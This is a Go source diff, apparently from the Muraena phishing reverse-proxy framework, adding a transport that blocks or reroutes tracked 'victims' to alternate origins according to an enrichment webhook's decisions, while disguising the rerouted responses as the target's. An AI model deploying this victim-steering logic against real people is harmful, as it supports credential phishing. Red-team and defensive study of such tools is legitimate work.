@@ -0,0 +1,70 @@
+package proxy
+
+import (
+	"net/http"
+	"net/url"
+
+	"github.com/muraenateam/muraena/module/tracking"
+	"github.com/muraenateam/muraena/session"
+)
+
+// routingProfiles are the origins of the routing profiles of the enrichment webhook, by name
+var routingProfiles map[string]*url.URL
+
+// newRoutingProfiles returns the origins of the routing profiles, nil if the enrichment is disabled
+func newRoutingProfiles(sess *session.Session) map[string]*url.URL {
+	config := sess.Config.Tracking.Enrichment
+	if !config.Enabled {
+		return nil
+	}
+
+	profiles := make(map[string]*url.URL)
+	for _, p := range config.Profiles {
+		// validated by CheckEnrichment
+		origin, _ := url.Parse(p.Origin)
+		profiles[p.Name] = origin
+	}
+	return profiles
+}
+
+// enrichmentTransport enforces the decisions of the enrichment webhook on the victims: the requests of the blocked
+// victims are answered with a 403, without reaching the target, and the requests to the target of the routed victims
+// are sent to the origin of their profile
+type enrichmentTransport struct {
+	// header carries the victim of the request, set by the tracker
+	header     string
+	enrichment func(victim string) *tracking.Enrichment
+	target     string
+	next       http.RoundTripper
+}
+
+// RoundTrip implements the http.RoundTripper interface
+func (t *enrichmentTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	enrichment := t.enrichment(req.Header.Get(t.header))
+	if enrichment == nil {
+		return t.next.RoundTrip(req)
+	}
+
+	if enrichment.Block {
+		if req.Body != nil {
+			req.Body.Close()
+		}
+		return syntheticResponse(req, http.StatusForbidden, nil), nil
+	}
+
+	origin := routingProfiles[enrichment.Profile]
+	if origin == nil || req.URL.Host != t.target {
+		return t.next.RoundTrip(req)
+	}
+
+	routed := req.Clone(req.Context())
+	routed.URL.Scheme, routed.URL.Host = origin.Scheme, origin.Host
+	routed.Host = origin.Host
+
+	resp, err := t.next.RoundTrip(routed)
+	if resp != nil {
+		// The response is rewritten as one of the target
+		resp.Request = req
+	}
+	return resp, err
+}